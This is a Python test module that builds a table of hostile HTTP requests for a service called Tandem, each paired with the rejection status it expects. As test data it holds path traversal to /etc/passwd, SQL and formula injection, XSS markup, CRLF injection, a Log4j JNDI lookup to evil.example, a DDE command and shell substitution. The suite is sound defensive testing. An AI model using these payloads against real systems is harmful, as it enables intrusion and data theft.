# SPDX-License-Identifier: AGPL-3.0-or-later
"""Hostile requests that are HTTP by the letter: what they ask for, say, and claim to be. With hostile_requests, the whole table."""

from hostile_requests import BODY, Builder, Case, bad, framing_cases


def hostile_cases(world):
    make = Builder(world)
    cases = list(framing_cases(make))
    for maker in (refusals, targets, bodies, texts, credentials):
        cases += maker(make)
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "two cases of one name"
    return cases


def refusals(make):
    allow = {"allow": "GET, HEAD, POST"}
    yield Case("405 names what is allowed", make.plain(b"DELETE " + make.teams + b" HTTP/1.1", b"Host: localhost", make.bearer(make.world.token)),
            (405,), stays=True, fields=allow)
    yield Case("405 with a body ends the connection", make.post(line=b"PATCH " + make.teams + b" HTTP/1.1"), (405,), fields=allow)
    yield Case("405 of a path that is read only", make.plain(b"DELETE /healthz HTTP/1.1", b"Host: localhost"), (405,), stays=True,
            fields={"allow": "GET, HEAD"})
    yield Case("404 with a body ends the connection", make.post(line=b"POST /api/v1/nowhere HTTP/1.1"), (404,))
    for why, value in (("text", b"text/plain"), ("a form", b"application/x-www-form-urlencoded"), ("parts", b"multipart/form-data; boundary=x"),
            ("XML", b"application/xml"), ("CSV", b"text/csv"), ("UTF-16", b"application/json; charset=utf-16"),
                       ("Latin-1", b"application/json; charset=iso-8859-1"), ("something like JSON", b"application/jsonx"),
                       ("a list", b"application/json, text/plain"), ("nothing", b""), ("a wildcard", b"*/*"), ("JSON of another tree", b"text/json"),
                       ("NDJSON", b"application/x-ndjson")):
        yield Case(f"415 for {why}", make.post(b"Content-Type: " + value, without=(b"Content-Type",)), (415,))
    yield Case("415 without a type", make.post(without=(b"Content-Type",)), (415,))
    for coding in (b"gzip", b"br", b"deflate", b"identity, gzip", b"x"):
        yield Case(f"415 for the encoding {coding.decode()}", make.post(b"Content-Encoding: " + coding), (415,))
    for why, value in (("HTML", b"text/html"), ("JSON refused", b"application/json;q=0, */*;q=0"), ("an image", b"image/*"), ("nothing known", b"x"),
            ("everything refused", b"*/*;q=0.000")):
        yield Case(f"406 for {why}", make.post(b"Accept: " + value), (406,))
        yield Case(f"406 for {why}, in a read", make.get(b"Accept: " + value), (406,), stays=True)
    for why, value in (("another", b"200-ok"), ("a list", b"100-continue, 200-ok"), ("empty", b""), ("with a parameter", b"100-continue;x"),
            ("a number", b"100")):
        yield Case(f"417 for an expectation that is {why}", make.post(b"Expect: " + value), (417,))
    yield Case("an expectation that is met", make.member(b"Expect: 100-Continue"), (409,), stays=True)
    yield Case("a body for a read", make.get(b"Content-Length: 5") + b"abcde", (400,))
    yield Case("a chunked body for a read", make.get(b"Transfer-Encoding: chunked") + b"5\r\nabcde\r\n0\r\n\r\n", (400,))
    yield Case("an upgrade is not taken up", make.get(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__"),
            (200,), stays=True)
    yield Case("a websocket is not opened", make.get(b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
            b"Sec-WebSocket-Version: 13"), (200,), stays=True)
    yield Case("a range is not looked at", make.get(b"Range: bytes=0-,0-,0-,0-,5-1,-99999999999999999999"), (200,), stays=True)
    yield Case("a method named in a field is not used", make.get(b"X-HTTP-Method-Override: DELETE", b"X-Method-Override: DELETE", target=make.mine),
            (200,), stays=True)
    yield Case("a path named in a field is not used", make.get(b"X-Original-URL: /metrics", b"X-Rewrite-URL: /metrics"), (200,), stays=True)


def targets(make):
    for why, target in (("two slashes", b"/" + make.teams), ("two slashes and a host", b"//evil.example/x"), ("a byte over 0x7F", b"/\xc3\xa9"),
            ("a Latin-1 byte", b"/\xe9"), ("NUL", b"/\0"), ("a tab", b"/a\tb"), ("a space", b"/a b"), ("DEL", b"/\x7f"),
            ("a fragment", b"/healthz#x"), ("an asterisk", b"*"),
                        ("no slash", b"healthz"), ("an authority", b"localhost:80"), ("a question mark alone", b"?x"), ("an escape", b"/\x1b[2J"),
                        ("a fullwidth slash", "／healthz".encode()), ("a script", b"javascript:alert(1)"), ("a bare CR", b"/a\rb"),
                        ("a vertical tab", b"/\x0b")):
        yield bad(f"target with {why}", make.get(target=target))
    for why, target in (("dots", b"/../../../etc/passwd"), ("dots in the midst", b"/api/v1/../v1/me"), ("one dot", b"/./healthz"),
            ("encoded dots", b"/%2e%2e/%2e%2e/etc/passwd"), ("twice-encoded dots", b"/%252e%252e/etc/passwd"), ("encoded slashes", b"/api%2fv1%2fme"),
            ("a backslash", b"/api\\v1\\me"),
                        ("encoded backslashes", b"/..%5c..%5cetc%5cpasswd"), ("a semicolon", b"/api/v1/me;x=y"),
                        ("dots and a semicolon", b"/api/v1/..;/v1/me"), ("encoded NUL", b"/healthz%00"),
                        ("encoded NUL and an ending", b"/healthz%00.html"), ("encoded CRLF", b"/healthz%0d%0aX-Evil:%20y"),
                        ("a broken escape", b"/healthz%"), ("half an escape", b"/healthz%2"), ("an escape of other letters", b"/healthz%zz"),
                        ("an escape of IIS", b"/healthz%u002f"), ("an overlong slash", b"/..%c0%af..%c0%afetc"),
                        ("an encoded letter in a fixed part", b"/api/v1/%6de"), ("capitals", b"/API/V1/ME"),
                        ("a slash at the end", b"/api/v1/me/"), ("slashes in the midst", b"/api//v1/me"),
                        ("a slash at the end and an encoded one", b"/api/v1/me%2f"), ("an ending", b"/api/v1/me.json"),
                        ("an ellipsis", b"/%E2%80%A6/etc/passwd"), ("a bidi override", b"/%E2%80%AEem/1v/ipa"),
                        ("a git folder", b"/.git/config"), ("the store", b"/tandem.db"),
                        ):
        yield Case(f"target with {why} is nowhere", make.get(target=target), (404,), stays=True)
    teams = make.teams
    for why, target in (("a sign", teams + b"/+1"), ("a leading zero", teams + b"/01"), ("a hexadecimal number", teams + b"/0x1"),
            ("2^63", teams + b"/9223372036854775808"), ("2^64 + 1", teams + b"/18446744073709551617"), ("a negative", teams + b"/-1"),
            ("zero", teams + b"/0"), ("a fraction", teams + b"/1.0"),
                        ("a fullwidth digit", teams + b"/%EF%BC%91"), ("300 digits", teams + b"/" + b"9" * 300), ("SQL", teams + b"/1%20or%201=1"),
                        ("a comment of SQL", teams + b"/1--"), ("encoded NUL after it", teams + b"/1%00"),
                        ("an encoded line break", teams + b"/1%0a")):
        yield Case(f"an id that is {why} is nobody's", make.get(target=target), (404,), stays=True)
    for why, course in (("SQL", b"x'%20or%20'1'='1"), ("dots", b".."), ("encoded dots", b"%2e%2e"), ("an encoded slash", b"a%2fb"),
            ("encoded NUL", b"cs8803-smr-2023fa%00"), ("overlong UTF-8", b"%c0%ae"), ("a surrogate", b"%ed%a0%80"),
            ("beyond Unicode", b"%f4%90%80%80"), ("half a character", b"%c3"), ("capitals", b"CS8803-SMR-2023FA"), ("a format", b"%25s%25n"),
            ("3,000 characters", b"c" * 3000)):
        yield Case(f"a course whose name is {why} is none", make.get(target=b"/api/v1/courses/" + course + b"/teams"), (404,), stays=True)
    for why, query in (("SQL", b"after=1;drop%20table%20teams"), ("a sign", b"after=%2B5"), ("a plus", b"limit=+5"), ("a negative", b"limit=-1"),
            ("an overflow", b"after=99999999999999999999"), ("too much", b"limit=1000000"), ("something unknown", b"zz=1"),
            ("one twice", b"limit=1&limit=2"), ("NUL", b"limit=1%00"), ("hexadecimal", b"limit=0x10"), ("a fraction", b"limit=1.5"),
                       ("overlong UTF-8", b"limit=%c0%b1"), ("brackets", b"limit[]=1"), ("brackets encoded", b"limit%5B%5D=1"),
                       ("an empty number", b"limit="), ("fullwidth digits", b"limit=%EF%BC%91"), ("a name alone", b"limit"),
                       ("a word", b"limit=all")):
        yield Case(f"a query with {why}", make.get(target=teams + b"?" + query), (422,), stays=True)
    yield Case("a query with a broken escape", make.get(target=teams + b"?limit=%zz"), (422,), stays=True)
    yield Case("metrics are for this machine only, whatever a field says", make.get(b"X-Forwarded-For: 127.0.0.1", target=b"/metrics"), (404,),
            stays=True)


def bodies(make):
    broken = (("nothing but a brace", b"{"), ("not JSON", b"name=Planted"), ("cut short", BODY[:-1]), ("a comma too many", b'{"name":"Planted",}'),
            ("a comment", b'{"name":"Planted"/**/}'), ("single quotes", b"{'name':'Planted'}"), ("two documents", BODY + BODY),
            ("junk after it", BODY + b"x"),
              ("NUL after it", BODY + b"\0"), ("NUL before it", b"\0" + BODY), ("NUL in a text", b'{"name":"Pl\0anted"}'),
              ("a raw line break", b'{"name":"Pl\nanted"}'), ("Latin-1", b'{"name":"Planted\xe9"}'),
              ("overlong UTF-8", b'{"name":"Planted\xc0\xaf"}'), ("a surrogate in UTF-8", b'{"name":"Planted\xed\xa0\x80"}'),
              ("UTF-16", BODY.decode().encode("utf-16")), ("UTF-32", BODY.decode().encode("utf-32")), ("half a character", b'{"name":"Planted\xc3"}'),
              ("a lone high surrogate", b'{"name":"Planted\\ud800"}'), ("a lone low surrogate", b'{"name":"Planted\\udc00"}'),
              ("surrogates the wrong way round", b'{"name":"Planted\\udc00\\ud800"}'),
              ("a high surrogate before text", b'{"name":"Planted\\ud800x"}'), ("an escape of no kind", b'{"name":"Planted\\x41"}'),
              ("half an escape", b'{"name":"Planted\\u12"}'), ("2,000 open brackets", b"[" * 2000), ("2,000 open objects", b'{"a":' * 800),
              ("brackets 1,500 deep", b"[" * 1500 + b"]" * 1500),
              ("brackets deep in a field", b'{"name":' + b"[" * 1500 + b"]" * 1500 + b"}"),
              ("a field twice", b'{"name":"Planted","name":"Planted 2"}'), ("NaN", b'{"name":NaN}'), ("infinity", b'{"name":Infinity}'),
              ("a leading zero", b'{"name":01}'), ("a leading plus", b'{"name":+1}'), ("hexadecimal", b'{"name":0x1}'),
              ("a number without end", b'{"name":' + b"9" * 4000 + b"}"),
              ("an exponent without end", b'{"name":1e999999}'), ("a bare word", b"Planted"), ("a list for the whole", b"[]"),
              ("a text for the whole", b'"Planted"'), ("a number for the whole", b"18"), ("null for the whole", b"null"),
              ("true for the whole", b"true"), ("an escaped NUL", b'{"name":"Planted\\u0000"}'))
    for why, body in broken:
        yield Case(f"JSON with {why}", make.post(body=body), (400,), stays=True)
    shaped = (("null for a text", b'{"name":null}'), ("a number for a text", b'{"name":5}'), ("an object for a text", b'{"name":{"$gt":""}}'),
            ("a list for a text", b'{"name":["Planted"]}'), ("an unknown field", b'{"name":"Planted","zz":1}'),
              ("a prototype", b'{"name":"Planted","__proto__":{"role":"operator"}}'), ("a role", b'{"name":"Planted","role":"instructor"}'),
              ("a field of no name", b'{"name":"Planted","":1}'), ("a field of a long name", b'{"name":"Planted","' + b"z" * 3000 + b'":1}'),
              ("a field in capitals", b'{"NAME":"Planted"}'), ("400 unknown fields", b"{" + b",".join(b'"z%d":1' % i for i in range(400)) + b"}"),
              ("no fields", b"{}"), ("an escape character", b'{"name":"Planted\\u001b[2J"}'), ("a line break", b'{"name":"Planted\\r\\nX-Evil: y"}'),
              ("an empty name", b'{"name":""}'), ("blanks for a name", b'{"name":"   "}'),
              ("a no-break space for a name", '{"name":"\u00a0\u3000"}'.encode()),
              ("a name of 3,000 characters", b'{"name":"' + b"P" * 3000 + b'"}'),
              ("a name of 1,000 characters of four bytes", ('{"name":"' + "𝕻" * 1000 + '"}').encode()), ("a bell", b'{"name":"Planted\\u0007"}'),
              ("a C1 control", b'{"name":"Planted\\u009b2J"}'))
    for why, body in shaped:
        yield Case(f"a body that is {why}", make.post(body=body), (422,), stays=True)
    yield Case("a body of white space", make.post(body=b" \r\n\t "), (400,), stays=True)
    yield Case("a body with a byte order mark", make.post(body=b"\xef\xbb\xbf" + BODY), (400,), stays=True)
    yield Case("a body over the cap", make.post(body=b" " * 4097), (413,))
    for why, number in (("2^63", b"9223372036854775808"), ("1e400", b"1e400"), ("a fraction", b"1.5"), ("negative", b"-1"), ("in quotes", b'"1"'),
            ("of 1,000 digits", b"9" * 1000), ("1e2", b"1e2"), ("a list", b"[1]"), ("minus zero as a fraction", b"-0.0")):
        statuses = (400,) if why in ("2^63", "1e400", "of 1,000 digits") else (422,)
        yield Case(f"a number that is {why}", make.member(line=b"PATCH " + make.mine + b" HTTP/1.1", body=b'{"contact":%s}' % number), statuses,
                stays=True)


def texts(make):
    """What is only text to Tandem: the member is refused for being in a team already, and for nothing else."""
    for why, text in (("SQL", "x'); drop table teams; --"), ("SQL in quotes", "\\\" or 1=1 --"), ("a formula", "=HYPERLINK(1)"),
            ("a formula with a plus", "+1+1"), ("a formula with an at sign", "@SUM(1)"), ("a formula with a minus", "-1+1"),
            ("DDE", "=cmd|'/c calc'!A0"), ("markup", "<script>alert(1)</script>"), ("an image", "<img src=x onerror=alert(1)>"),
                      ("a template", "{{7*7}}${7*7}"), ("formats", "%s%n%x%p"), ("a shell", "$(id)`id`;id|id"), ("a path", "../../etc/passwd"),
                      ("a link of Log4j", "${jndi:ldap://evil.example/x}"), ("a surrogate pair", "\\ud83d\\ude00"),
                      ("combining marks", "Z̴̙̤̞͉͚̯̞̠͍͑ͫ̓ͪ̂ͫ̽A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹"),
                      ("a replacement", "\ufffd"), ("Turkish i", "İıIi"), ("a ligature", "ﬁﬂ")):
        yield Case(f"a text that is {why}", make.member(body=b'{"name":"%s"}' % text.encode()), (409,), stays=True)
    for why, text in (("a noncharacter", "\ufffe"), ("a tag", "\U000e0041"), ("an unassigned one", "\U0003ffff"), ("a joiner of graphemes", "Z\u034fA"),
                      ("a space of no width", "A\u200bB"), ("turned around", "A\u202eB")):
        yield Case(f"a text that is {why}", make.member(body=b'{"name":"%s"}' % text.encode()), (422,), stays=True)
    yield Case("a key that is a formula", make.member(b"Idempotency-Key: =1+1"), (409,), stays=True)
    yield Case("tags by the thousand", make.get(b"If-None-Match: " + b'"a",' * 3000, target=make.teams), (200,), stays=True)
    yield Case("tags in open quotes", make.get(b'If-None-Match: "a, W/"', target=make.teams), (200,), stays=True)
    yield Case("types by the thousand", make.get(b"Accept: " + b"a/b;q=0.1," * 1400 + b"*/*"), (200,), stays=True)


def credentials(make):
    def me(name, *fields, statuses=(401,), line=b"GET /api/v1/me HTTP/1.1"):
        return Case(name, make.plain(line, b"Host: localhost", *fields), statuses, stays=True)

    token = make.world.token.encode()
    for why, value in (("nothing", b""), ("Basic", b"Basic YTpi"), ("Bearer alone", b"Bearer"), ("Bearer and a space", b"Bearer "),
            ("no token", b"Bearer x"), ("two tokens", b"Bearer " + token + b" " + token), ("a list", b"Bearer " + token + b", Bearer " + token),
            ("the token in quotes", b'Bearer "' + token + b'"'), ("another case", b"Bearer " + token.swapcase()),
                       ("a byte more", b"Bearer " + token + b"a"), ("a byte less", b"Bearer " + token[:-1]),
                       ("an escaped one", b"Bearer %" + b"%02x" % token[0] + token[1:]), ("the token alone", token),
                       ("bytes over 0x7F", b"Bearer " + token + b"\xff"), ("a wildcard", b"Bearer *"), ("SQL", b"Bearer ' or 1=1 --"),
                       ("Digest", b'Digest username="a"'), ("base64 padding", b"Bearer " + token + b"==")):
        yield me(f"credentials that are {why}", b"Authorization: " + value)
    for why, value in (("no session", b"tandem_session=x"), ("an empty one", b"tandem_session="), ("a name alone", b"tandem_session"),
            ("another name", b"Tandem_Session=" + token), ("a space in the name", b"tandem_session =" + token + b"x"), ("semicolons", b";;;;=;=;"),
            ("2,000 cookies", b"a=b; " * 2000), ("an equals sign alone", b"="), ("the token under $Path", b"$Path=" + token)):
        yield me(f"a cookie that is {why}", b"Cookie: " + value)
    cookie = b"Cookie: tandem_session=" + token
    for why, fields in (("no Origin", ()), ("another Origin", (b"Origin: http://evil.example",)), ("the Origin null", (b"Origin: null",)),
            ("an Origin that begins like ours", (b"Origin: http://localhost.evil.example",)),
            ("an Origin with our name as its user", (b"Origin: http://localhost@evil.example",)),
            ("a cross-site fetch", (b"Sec-Fetch-Site: cross-site",)), ("a same-site fetch", (b"Sec-Fetch-Site: same-site",)),
                        ("an empty Origin", (b"Origin:",)), ("an Origin of another scheme", (b"Origin: file://localhost",)),
                        ("a list of Origins", (b"Origin: http://localhost, http://evil.example",)),
                        ("a Referer of ours", (b"Referer: http://localhost/",)), ("another port", (b"Origin: http://localhost:81",))):
        yield Case(f"a change by cookie with {why}", make.post(cookie, *fields, without=(b"Authorization",)), (403,), stays=True)
    yield me("a name that only a proxy may tell", b"X-Remote-User: admin", b"X-Forwarded-User: admin", b"Remote-User: admin")
